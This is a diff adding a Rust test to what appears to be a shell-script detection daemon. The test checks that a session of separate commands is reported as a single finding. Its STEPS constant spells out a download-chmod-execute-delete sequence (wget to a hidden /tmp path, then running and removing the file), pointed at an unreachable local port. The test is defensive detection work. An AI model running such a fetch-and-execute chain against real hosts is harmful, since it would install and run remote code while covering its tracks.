@@ -209,3 +209,33 @@ fn replay_says_what_the_daemon_said() {
     assert!(table.lines().any(|l| l.starts_with("benign") && l.contains("echo fine")), "{table}");
     assert!(table.lines().any(|l| l.starts_with("malicious") && l.contains("command")), "{table}");
 }
+
+/// Nothing answers there, and nothing is there: each fails, and scores low by itself.
+const STEPS: [&str; 4] = [
+    "wget -q -O /tmp/.scriptwatch/a http://127.0.0.1:9/a",
+    "chmod 777 /tmp/.scriptwatch/a",
+    "/tmp/.scriptwatch/a",
+    "rm -f /tmp/.scriptwatch/a",
+];
+
+#[test]
+fn commands_that_are_harmless_one_by_one_are_one_finding_together() {
+    let node = Node::start(&[]).unwrap();
+    let pids = STEPS.map(|step| shell::run("/bin/bash", &["-c", step]).unwrap().to_string());
+    let text = STEPS.map(|step| format!("{step}\n")).concat();
+    let findings = node.wait_for(|all| all.iter().any(|one| script(one)["contents"] == text)).unwrap();
+    assert_eq!(findings.len(), 1, "{findings:#?}");
+    let (finding, properties) = (&findings[0], &findings[0]["sourceProperties"]);
+    assert_eq!(properties["Script_Origin"], "session");
+    assert_eq!(script(finding)["sha256"], sha256(text.as_bytes()));
+    assert_eq!(properties["Session_Scripts"].as_array().unwrap().len(), STEPS.len());
+    let commands = properties["Session_Commands"].as_array().unwrap();
+    for (at, (command, pid)) in commands.iter().zip(&pids).enumerate() {
+        let (command, line) = (command.as_str().unwrap(), at + 1);
+        let is_it = command.starts_with(&format!("lines {line}-{line}: 20"))
+            && command.ends_with(&format!(", command, process {pid}"));
+        assert!(is_it, "{command}");
+    }
+    let description = finding["description"].as_str().unwrap();
+    assert!(description.contains("the last of 4 scripts of one session"), "{description}");
+}
